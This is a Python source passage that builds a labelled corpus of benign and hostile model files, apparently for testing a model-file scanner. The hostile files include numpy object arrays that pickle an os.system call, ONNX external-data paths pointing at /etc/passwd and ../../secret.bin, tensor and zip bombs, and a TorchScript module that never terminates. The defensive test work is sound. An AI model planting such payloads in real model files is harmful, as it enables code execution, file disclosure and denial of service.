    files["st_shape_mismatch.safetensors"] = _safetensors({"w": {"dtype": "F32", "shape": [100, 100], "data_offsets": [0, 16]}}, bytes(16))
    files["st_enormous.safetensors"] = _safetensors({"w": {"dtype": "F32", "shape": [1 << 20, 1 << 20], "data_offsets": [0, 1 << 42]}}, bytes(16))
    files["st_header_length.safetensors"] = _safetensors(good, bytes(16), header_len=(1 << 40))
    text = b'{"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}'
    files["st_duplicate_key.safetensors"] = struct.pack("<Q", len(text)) + text + bytes(16)
    files["st_unknown_dtype.safetensors"] = _safetensors({"w": {"dtype": "PYOBJ", "shape": [4], "data_offsets": [0, 16]}}, bytes(16))
    # onnx
    files["onnx_external_absolute.onnx"] = _onnx_edit(_external("/etc/passwd"))
    files["onnx_external_dotdot.onnx"] = _onnx_edit(_external("../../secret.bin"))
    files["onnx_custom_domain.onnx"] = _onnx_edit(_custom_domain)
    files["onnx_huge_dims.onnx"] = _onnx_edit(_huge_dims)
    files["onnx_constant_of_shape_bomb.onnx"] = _computed_bomb("ConstantOfShape")
    files["onnx_expand_bomb.onnx"] = _computed_bomb("Expand")
    files["onnx_abs_bomb.onnx"] = _computed_bomb("AbsConstantOfShape")
    files["onnx_sum_bomb.onnx"] = _computed_bomb("SumConstantOfShape")
    files["onnx_matmul_bomb.onnx"] = _computed_bomb("MatMulConstantOfShape")
    files["onnx_function_chain.onnx"] = _function_chain(30)
    # numpy
    files["object_array.npy"] = _npy_bytes(np.array([_Reduce(os.system, touch("object_array")), 1], dtype=object), allow_pickle=True)
    files["object_in_npz.npz"] = _npz_bytes(x=np.array([_Reduce(os.system, touch("object_in_npz"))], dtype=object))
    files["npz_bomb.npz"] = _zip_with_zero_member(None, "x.npy", _npy_header("<f8", (50_000_000,)), 400_000_000)
    files["npy_shape_lie.npy"] = _npy_header("<f8", (10_000_000_000,)) + bytes(16)
    return files


def build_corpus(root: Path) -> dict[str, tuple[Path, bool]]:
    """Write both corpora under root/benign, root/hostile; markers go to root/markers."""
    markers = root / "markers"
    markers.mkdir(parents=True, exist_ok=True)
    corpus: dict[str, tuple[Path, bool]] = {}
    for kind, files in (("benign", benign_files()), ("hostile", hostile_files(markers))):
        folder = root / kind
        folder.mkdir(exist_ok=True)
        for name, data in files.items():
            path = folder / name
            path.write_bytes(data)
            corpus[f"{kind}/{name}"] = (path, kind == "hostile")
    return corpus


class _Spins(nn.Module):
    """Pure tensor operators only, so the static check passes; its forward never ends."""

    def forward(self, x):
        for _ in range(1 << 40):
            x = x + 1.0
        return x


def spinning_torchscript() -> bytes:
    return _script_bytes(_Spins())
